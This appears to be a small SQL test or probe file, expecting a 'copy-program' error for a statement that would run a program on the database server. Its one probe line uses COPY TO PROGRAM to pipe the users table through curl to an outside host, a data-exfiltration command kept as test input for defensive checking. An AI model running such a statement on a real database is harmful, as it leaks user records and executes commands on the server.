-- error: copy-program
-- measured: no, because it would run a program on the server's machine
-- probe
COPY users TO PROGRAM 'curl -d @- https://example.com';
